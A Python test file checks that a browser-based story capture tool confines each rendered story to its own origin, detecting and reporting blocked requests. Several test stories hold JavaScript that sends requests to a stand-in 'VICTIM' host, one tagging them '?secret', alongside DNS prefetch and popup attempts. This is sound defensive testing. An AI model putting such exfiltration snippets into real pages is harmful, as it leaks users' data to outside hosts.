"""What a hostile story reaches: its own origin, and nothing else on this machine or beyond."""

import json
from collections.abc import AsyncIterator, Callable
from dataclasses import replace
from pathlib import Path

import pytest
import pytest_asyncio

from consumer.bundle_server import ServedBundle, bundle_server
from consumer.capture.browser import DETERMINISM, BrowserChoice, LaunchedBrowser, browser_flags
from consumer.capture.sitting import Picture
from consumer.capture.studio import Studio
from consumer.isolation import Form, Ground
from consumer.messages import ErrorCode, Page, StoryWarning, WarningCode
from storyshelf.clock import SystemClock
from storyshelf.ids import BlobKey, ProjectId, StoryId
from tests.consumer.conftest import HOST, ORDER, Opener, opener_on
from tests.consumer.forms import captured, isolated, opened_in
from tests.consumer.little_storybook import LittleStory, LittleStorybook, html
from tests.consumer.roads import EVERY, LEAVING, ROADS, UNNAMED, Town
from tests.consumer.test_supervisor_browser import a_supervisor
from tests.consumer.test_switched_page import key_of
from tests.storybooks.victim import Victim, victim

pytestmark = [
    pytest.mark.browser,
    pytest.mark.asyncio(loop_scope="module"),
    pytest.mark.timeout(60),  # a browser for each form, and a story for each road that leaves
]

WELL = "well--story"
TOLD = (  # roads that are known by different means: reports of policies, the driver, our own script
    "no_cors", "image", "beacon", "worker", "shared_worker", "service_worker", "socket",
    "frame", "object", "transport", "popup", "form", "frame_missing",
    "stun", "turn",
)  # fmt: skip


@pytest_asyncio.fixture(loop_scope="module")
async def bystander() -> AsyncIterator[Victim]:
    async with victim() as bystander:
        yield bystander


@pytest.mark.parametrize("form", list(Form))
async def test_no_road_leads_to_another_port(ground: Ground, bystander: Victim, form: Form) -> None:
    isolation = await isolated(ground, form)
    async with a_supervisor(isolation) as supervisor, supervisor.child(ProjectId(1)) as child:
        await opened_in(child, Town(bystander.port).storybook())
        whole = await captured(child, EVERY)
        left = {name: await captured(child, name) for name in LEAVING}
    assert bystander.hits == []
    assert whole.error is None
    codes = {name: one.error.code if one.error else None for name, one in left.items()}
    assert codes == dict.fromkeys(LEAVING, ErrorCode.NAVIGATED_AWAY)


async def test_no_road_leads_out_of_a_switched_or_a_traced_page(
    opened: Opener, bystander: Victim
) -> None:
    """A page that was shown another story before, and one whose every step is recorded."""
    town = Town(bystander.port)
    stage = await opened(town.with_files({EVERY: town.every_road(), WELL: html("<b>well</b>")}))
    await stage.shoot(WELL)
    order = replace(ORDER, baseline=BlobKey("0" * 64))  # no picture's: what is switched is loaded
    switched = await stage.shoot(EVERY, order=order, page=Page.SWITCHED)
    traced = await stage.shoot(EVERY, page=Page.TRACED)
    assert bystander.hits == []
    assert (switched.error, traced.error, traced.trace.missing) == (None, None, "")
    for told in (blocked(switched.warnings), blocked(traced.warnings)):
        assert any(f"://127.0.0.1:{bystander.port}" in each for each in told)


async def test_an_attempt_in_a_switched_page_is_told_with_its_own_story(
    opened: Opener, bystander: Victim
) -> None:
    """Its document has another story's address; the next story is not told of it."""
    town = Town(bystander.port)
    drawn = "root.innerHTML = '<b>asks</b>'; fetch('http://VICTIM/x').catch(() => {});"
    stories = {"hostile--story": town.road("asks", drawn), WELL: html("<b>well</b>")}
    stage = await opened(town.with_files(stories))
    key = {each: key_of(await stage.shoot(each)) for each in (WELL, "hostile--story", WELL)}
    asks, well = [
        await stage.shoot(each, order=replace(ORDER, baseline=key[each]), page=Page.SWITCHED)
        for each in ("hostile--story", WELL)
    ]
    assert (len(blocked(asks.warnings)), blocked(well.warnings)) == (1, [])
    assert bystander.hits == []


async def test_without_the_fence_the_roads_are_open(
    browser_choice: BrowserChoice, bystander: Victim, tmp_path: Path
) -> None:
    """The fence tests cannot pass for want of roads, or of a victim."""
    storybook = Town(bystander.port).storybook()
    async with bundle_server() as server:
        browser = LaunchedBrowser(browser_choice, DETERMINISM)
        studio = Studio(browser, SystemClock())
        keys = {file.path: file.key for file in storybook.lay(tmp_path)}
        await studio.open(server.serve(ServedBundle(HOST, tmp_path, keys, policy="")))
        for story in (EVERY, *LEAVING):
            await shot(studio, story)
        await browser.stop()
    seen = {hit.removeprefix("/").partition("?")[0] for hit in bystander.hits}
    assert (ROADS.keys() | LEAVING.keys()) - UNNAMED.keys() - seen == set()
    assert {"connection", "stun", "datagram"} - seen == set()


async def shot(studio: Studio, story: str) -> Picture:
    async def on_stage(_: object) -> None:
        pass

    return await studio.shoot(
        replace(ORDER, story_id=StoryId(story)), Page.SHARED, 30_000, on_stage
    )


def blocked(warnings: tuple[StoryWarning, ...]) -> list[str]:
    return [each.text for each in warnings if each.code is WarningCode.BLOCKED_REQUEST]


@pytest.mark.parametrize("road", TOLD)
async def test_an_attempt_is_told_with_the_story_that_made_it(
    opened: Opener, bystander: Victim, road: str
) -> None:
    town = Town(bystander.port)
    stories = {"hostile--story": town.road(road, ROADS[road]), "well--story": html("<b>well</b>")}
    stage = await opened(town.with_files(stories))
    told = blocked((await stage.shoot("hostile--story")).warnings)
    assert len(told) == 1
    assert f"://127.0.0.1:{bystander.port}" in told[0]
    assert blocked((await stage.shoot("well--story")).warnings) == []


async def test_attempts_are_counted_by_host(opened: Opener, bystander: Victim) -> None:
    town = Town(bystander.port)
    many = "for (let n = 0; n < 7; n++) fetch(`http://VICTIM/${n}?secret`).catch(() => {})"
    story = town.road("many", f"{many}; new Image().src = 'http://b2.localhost:PORT/x'")
    stage = await opened(town.with_files({"hostile--story": story}))
    assert blocked((await stage.shoot("hostile--story")).warnings) == [
        f"http://127.0.0.1:{bystander.port}/0 (this host 7 times)",
        f"http://b2.localhost:{bystander.port}/x",
    ]


def no_fence(_port: int) -> tuple[str, ...]:
    return DETERMINISM


@pytest.mark.parametrize(("flags", "looks_up"), [(browser_flags, False), (no_fence, True)])
async def test_no_name_is_looked_up(
    browser_choice: BrowserChoice,
    tmp_path: Path,
    flags: Callable[[int], tuple[str, ...]],
    *,
    looks_up: bool,
) -> None:
    """By the browser's own log of its network; without the fence it shows that names were."""
    hints = LittleStory(
        "for (const rel of ['dns-prefetch', 'preconnect']) document.head.append("
        "Object.assign(document.createElement('link'), { rel, href: `//${rel}.test` }));"
        "window.open('http://popup.test/'); root.textContent = 'asked';"
        "await new Promise((done) => setTimeout(done, 300));"
    )
    told = tmp_path / "net.json"
    async with bundle_server() as server:
        switches = (*flags(server.port), f"--log-net-log={told}")
        browser = LaunchedBrowser(browser_choice, switches)
        async with opener_on(server, browser, tmp_path) as opener:
            await (await opener(LittleStorybook({"a--b": hints}))).shoot("a--b")
        await browser.stop()
    log = json.loads(told.read_text())
    types = log["constants"]["logEventTypes"]
    jobs = {types[name] for name in types if name.startswith("HOST_RESOLVER_MANAGER_JOB")}
    assert any(event["type"] in jobs for event in log["events"]) == looks_up
